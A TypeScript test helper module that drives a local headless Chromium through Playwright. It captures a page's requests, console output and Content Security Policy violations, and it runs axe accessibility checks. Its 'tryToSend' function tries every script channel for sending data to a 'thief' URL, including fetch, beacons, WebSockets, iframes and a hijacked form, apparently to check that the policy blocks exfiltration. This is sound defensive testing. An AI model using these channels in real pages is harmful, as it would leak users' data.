/** A real Chromium for tests: the one that CHROMIUM_PATH names, or Debian's. It talks to loopback only. */
import { existsSync } from 'node:fs';
import axe, { type AxeResults } from 'axe-core';
import { type Browser, chromium, type Frame, type Page } from 'playwright-core';

const debians = ['/usr/bin/chromium-headless-shell', '/usr/bin/chromium'];

const quiet = [
  '--headless',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

/** @throws Error that says how to get a Chromium when there is none */
export async function launchChromium(): Promise<Browser> {
  const executablePath = process.env.CHROMIUM_PATH || debians.find((path) => existsSync(path));
  if (executablePath === undefined) {
    throw new Error("There is no Chromium. Install Debian's chromium-headless-shell, or set CHROMIUM_PATH.");
  }
  const isRoot = process.getuid?.() === 0;
  return chromium.launch({ executablePath, args: isRoot ? [...quiet, '--no-sandbox'] : quiet });
}

/** What leaves a page, as the browser tells it: one text for each request, with address, headers and body. */
export function captureRequests(page: Page): string[] {
  const captured: string[] = [];
  page.on('request', (request) => {
    const headers = JSON.stringify(request.headers());
    captured.push(`${request.method()} ${request.url()} ${headers} ${request.postData() ?? ''}`);
  });
  return captured;
}

/** What a page says on its console, what breaks in it, and `blocked: <directive>` for each event of its policy. */
export async function captureConsole(page: Page): Promise<string[]> {
  const lines: string[] = [];
  page.on('console', (message) => lines.push(`${message.type()}: ${message.text()}`));
  page.on('pageerror', (error) => lines.push(`uncaught: ${error.message}`));
  await page.exposeFunction('tellBlocked', (directive: string) => lines.push(`blocked: ${directive}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (globalThis as unknown as { tellBlocked(directive: string): void }).tellBlocked(effectiveDirective),
    );
  });
  return lines;
}

/** @returns what axe finds, one line for each rule and element; frames within are not looked into */
export async function findBarriers(page: Page | Frame): Promise<string[]> {
  if (!(await page.evaluate(() => 'axe' in globalThis))) await page.evaluate(axe.source);
  const { violations } = await page.evaluate<AxeResults>('axe.run({ iframes: false, resultTypes: ["violations"] })');
  return violations.flatMap(({ id, impact, nodes }) => nodes.map(({ html }) => `${impact} ${id}: ${html}`));
}

/** Tries to send something to a thief from inside a page, in every way that a script has, its form among them (catalogue, B-3). */
export async function tryToSend(page: Page, thief: string): Promise<void> {
  await page.evaluate(async (to) => {
    const add = (name: string, members: object) =>
      document.body.append(Object.assign(document.createElement(name), members));
    await fetch(`${to}/fetch`).catch(() => undefined);
    add('img', { src: `${to}/img` });
    navigator.sendBeacon(`${to}/beacon`, 'x');
    try {
      new WebSocket(`${to.replace('http', 'ws')}/socket`);
    } catch {}
    add('link', { rel: 'prefetch', href: `${to}/prefetch` });
    add('link', { rel: 'stylesheet', href: `${to}/style` });
    add('iframe', { src: `${to}/frame` });
    const form = document.querySelector('form') as HTMLFormElement;
    form.action = `${to}/form`;
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
  }, thief);
}

/** What the policy has blocked so far. @param spoken - of `captureConsole` */
export const blockedIn = (spoken: readonly string[]): string[] =>
  spoken.filter((line) => line.startsWith('blocked: ')).map((line) => line.slice('blocked: '.length));
